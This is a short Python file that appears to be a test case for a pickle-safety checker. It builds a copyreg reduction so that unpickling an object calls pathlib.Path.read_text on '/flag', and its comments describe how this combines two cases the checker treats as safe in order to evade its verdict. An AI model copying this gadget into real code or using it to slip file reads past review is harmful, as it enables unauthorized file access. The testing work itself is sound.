# "The program's own pickles" (not reported) combined with "pickle.find_class of
# plain data" (pathlib is one of the standard library's value types the verdict
# does not count). The registered reduction names pathlib's Path.read_text, so
# loading the program's own pickle reads a host file inside pickle and pathlib.
import copyreg
import pathlib
import pickle


class Attachment:
    def __init__(self, where):
        self.where = where


def _as_text(att):
    return (pathlib.Path.read_text, (pathlib.Path(att.where),))


copyreg.pickle(Attachment, _as_text)

data = pickle.dumps(Attachment("/flag"))
print(pickle.loads(data))
